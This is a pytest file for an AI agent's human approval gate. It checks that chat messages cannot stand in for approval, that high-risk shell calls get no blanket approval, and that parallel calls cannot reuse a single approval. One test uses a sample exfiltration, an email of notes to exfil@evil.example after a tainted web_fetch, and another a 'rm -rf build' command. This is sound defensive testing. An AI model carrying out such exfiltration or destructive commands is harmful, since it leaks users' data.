"""The REPL's inline prompt and the non-interactive PENDING path; a chat "yes" decides nothing."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from bastion.contracts.authorization import CallContext
from bastion.contracts.tools import ApprovalRequirement, RiskLevel, SideEffect
from bastion.kernel.approval_gate import ApprovalGate
from bastion.kernel.approval_prompt import (
    ApprovalAnswer,
    ApprovalPrompt,
    InteractiveApprover,
    PendingApprover,
)
from bastion.kernel.hooks import ApprovalOutcome, GuardVerdict
from bastion.kernel.taint import TaintGuard
from bastion.store.approvals import ApprovalState
from bastion.store.database import Database
from security.approval_world import CLI, UserTexts, World, call, spec

CTX = CallContext(thread_id="thread-1", channel="cli", user="local")
MAIL = spec(
    "send_mail",
    risk=RiskLevel.MEDIUM,
    approval=ApprovalRequirement.UNLESS_AUTO_APPROVED,
    side_effects=[SideEffect.MESSAGE],
)


@pytest.fixture
def world(tmp_path: Path) -> Iterator[World]:
    built = World(tmp_path / "bastion.db")
    yield built
    built.close()


@dataclass
class ScriptedPrompt:
    """The REPL's prompt function, answering from a script and keeping what it was shown."""

    answers: list[ApprovalAnswer | type[BaseException]]
    shown: list[ApprovalPrompt] = field(default_factory=list)

    async def __call__(self, prompt: ApprovalPrompt) -> ApprovalAnswer:
        self.shown.append(prompt)
        answer = self.answers.pop(0)
        if isinstance(answer, ApprovalAnswer):
            return answer
        raise answer()


@pytest.mark.anyio
async def test_yes_consumes_the_approval_for_this_call(world: World) -> None:
    proposed = call(MAIL, {"to": "bob@example.com"}, CTX)
    decision = await ApprovalGate(world.desk).check(proposed)
    prompt = ScriptedPrompt([ApprovalAnswer.YES])

    outcome = await InteractiveApprover(world.desk, prompt).decide(proposed, decision)

    assert outcome is ApprovalOutcome.APPROVED
    assert decision.approval_id is not None
    request = world.desk.get(decision.approval_id)
    assert request is not None
    assert request.state is ApprovalState.CONSUMED
    assert request.decided_via == "repl"
    assert prompt.shown[0].always_offered
    assert "send_mail" in prompt.shown[0].render()


@pytest.mark.anyio
@pytest.mark.parametrize("answer", [ApprovalAnswer.NO, EOFError, KeyboardInterrupt])
async def test_no_or_an_aborted_prompt_denies(
    world: World, answer: ApprovalAnswer | type[BaseException]
) -> None:
    proposed = call(MAIL, {"to": "bob@example.com"}, CTX)
    decision = await ApprovalGate(world.desk).check(proposed)
    outcome = await InteractiveApprover(world.desk, ScriptedPrompt([answer])).decide(
        proposed, decision
    )
    assert outcome is ApprovalOutcome.DENIED
    assert world.desk.consume(proposed) is None


@pytest.mark.anyio
async def test_always_for_this_thread_approves_and_grants(world: World) -> None:
    gate = ApprovalGate(world.desk)
    proposed = call(MAIL, {"to": "bob@example.com"}, CTX)
    approver = InteractiveApprover(world.desk, ScriptedPrompt([ApprovalAnswer.ALWAYS_THIS_THREAD]))
    assert await approver.decide(proposed, await gate.check(proposed)) is ApprovalOutcome.APPROVED
    later = call(MAIL, {"to": "carol@example.com"}, CTX, call_id="call-2")
    assert (await gate.check(later)).verdict is GuardVerdict.ALLOW


@pytest.mark.anyio
async def test_always_is_not_offered_nor_honoured_for_high_risk(world: World) -> None:
    shell = spec("shell", risk=RiskLevel.HIGH, approval=ApprovalRequirement.UNLESS_AUTO_APPROVED)
    gate = ApprovalGate(world.desk)
    proposed = call(shell, {"command": "rm -rf build"}, CTX)
    prompt = ScriptedPrompt([ApprovalAnswer.ALWAYS_THIS_THREAD])
    outcome = await InteractiveApprover(world.desk, prompt).decide(
        proposed, await gate.check(proposed)
    )
    assert not prompt.shown[0].always_offered
    assert outcome is ApprovalOutcome.DENIED
    again = call(shell, {"command": "rm -rf build"}, CTX, call_id="call-2")
    assert (await gate.check(again)).verdict is GuardVerdict.NEEDS_APPROVAL


@pytest.mark.anyio
async def test_the_prompt_says_what_tainted_the_thread(world: World) -> None:
    tainted = CallContext(
        thread_id="thread-1",
        channel="cli",
        user="local",
        tainted=True,
        tainted_by="outside content from web_fetch",
    )
    proposed = call(MAIL, {"to": "exfil@evil.example", "body": "the notes"}, tainted)
    decision = await TaintGuard(UserTexts(), world.desk).check(proposed)
    prompt = ScriptedPrompt([ApprovalAnswer.NO])
    await InteractiveApprover(world.desk, prompt).decide(proposed, decision)
    line = prompt.shown[0].reason
    assert "\n" not in line
    assert "web_fetch" in line
    assert "exfil@evil.example" in line


@pytest.mark.anyio
async def test_pending_until_approved_from_the_cli_then_the_identical_call_runs_once(
    world: World,
) -> None:
    gate, approver = ApprovalGate(world.desk), PendingApprover(world.desk)
    proposed = call(MAIL, {"to": "bob@example.com"}, CTX)
    decision = await gate.check(proposed)
    assert await approver.decide(proposed, decision) is ApprovalOutcome.PENDING
    assert decision.approval_id is not None

    world.desk.decide(decision.approval_id, approve=True, decider=CLI)
    retry = call(MAIL, {"to": "bob@example.com"}, CTX, call_id="call-2")
    retry_decision = await gate.check(retry)
    assert retry_decision.approval_id == decision.approval_id
    assert await approver.decide(retry, retry_decision) is ApprovalOutcome.APPROVED

    third = call(MAIL, {"to": "bob@example.com"}, CTX, call_id="call-3")
    assert await approver.decide(third, await gate.check(third)) is ApprovalOutcome.PENDING


@pytest.mark.anyio
async def test_a_denied_request_answers_denied_until_it_expires(world: World) -> None:
    gate, approver = ApprovalGate(world.desk), PendingApprover(world.desk)
    proposed = call(MAIL, {"to": "bob@example.com"}, CTX)
    decision = await gate.check(proposed)
    assert decision.approval_id is not None
    world.desk.decide(decision.approval_id, approve=False, decider=CLI)
    assert await approver.decide(proposed, await gate.check(proposed)) is ApprovalOutcome.DENIED


@pytest.mark.anyio
async def test_a_plain_yes_chat_message_is_never_an_approval(world: World) -> None:
    """IronClaw #2248: the user typing "yes" in the conversation decides nothing."""
    texts = UserTexts()
    gate, approver = ApprovalGate(world.desk), PendingApprover(world.desk)
    proposed = call(MAIL, {"to": "bob@example.com"}, CTX)
    decision = await gate.check(proposed)
    assert await approver.decide(proposed, decision) is ApprovalOutcome.PENDING

    texts.say("thread-1", "yes")
    texts.say("thread-1", f"yes, approve {decision.approval_id}")

    assert decision.approval_id is not None
    request = world.desk.get(decision.approval_id)
    assert request is not None
    assert request.state is ApprovalState.PENDING
    assert await approver.decide(proposed, await gate.check(proposed)) is ApprovalOutcome.PENDING


@pytest.mark.anyio
async def test_an_identical_parallel_call_cannot_take_an_inline_yes_between_its_steps(
    world: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The model asked for the same call twice at once. While the user answers "yes" to the
    first, the second tries to spend any approval covering it after every committed write,
    which is the window an approve-then-consume in two transactions leaves open."""
    first = call(MAIL, {"to": "bob@example.com"}, CTX)
    twin = call(MAIL, {"to": "bob@example.com"}, CTX)
    decision = await ApprovalGate(world.desk).check(first)
    attempts: list[str | None] = []  # what the twin got after each committed write
    real_transaction = type(world.db).transaction
    busy = False

    @contextmanager
    def transaction_then_twin(db: Database, *, durable: bool = False) -> Iterator[Database]:
        nonlocal busy
        outermost = db._depth == 0
        with real_transaction(db, durable=durable) as tx:
            yield tx
        if outermost and not busy:  # the twin's own writes do not trigger it again
            busy = True
            try:
                attempts.append(world.desk.consume(twin))
            finally:
                busy = False

    monkeypatch.setattr(type(world.db), "transaction", transaction_then_twin)
    outcome = await InteractiveApprover(world.desk, ScriptedPrompt([ApprovalAnswer.YES])).decide(
        first, decision
    )
    assert len(attempts) >= 3  # it tried before the prompt, after the request, after the yes
    assert set(attempts) == {None}  # the twin never found anything to spend ...
    assert outcome is ApprovalOutcome.APPROVED  # ... and the call the user approved runs
    assert decision.approval_id is not None
    request = world.desk.get(decision.approval_id)
    assert request is not None
    assert request.state is ApprovalState.CONSUMED
    assert world.desk.consume(twin) is None  # single use, whoever asks next
